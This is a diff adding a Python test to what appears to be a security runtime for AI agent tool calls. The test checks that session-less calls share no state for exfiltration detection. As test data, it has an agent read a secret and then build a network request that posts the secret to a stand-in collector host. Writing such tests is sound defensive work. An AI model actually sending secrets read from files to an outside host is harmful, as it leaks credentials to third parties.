@@ -164,3 +164,16 @@ def test_changed_mcp_tool_is_held_until_approved(workspace: str) -> None:
     decision = strict.decide("mcp__docs__search", {"q": "install"}, session_id="s", door="mcp")
     assert ReasonCode.TOOL_SCHEMA_CHANGED not in decision.reasons
     strict.close()
+
+
+def test_calls_without_a_session_share_nothing(workspace: str) -> None:
+    rt = Runtime(workspace=workspace)
+    rt.observe_output("Read", {"file_path": "x"}, f"key: {SECRET}", session_id=None, door="sdk")
+    send = {"url": "https://collector.example.net/in", "body": SECRET}
+    decision = rt.decide("network.request", send, session_id=None, door="sdk")
+    assert (
+        ReasonCode.CONFIRMED_EXFIL not in decision.reasons
+        and ReasonCode.MULTI_STEP_EXFIL not in decision.reasons
+    )
+    assert rt.store.sessions() == []
+    rt.close()
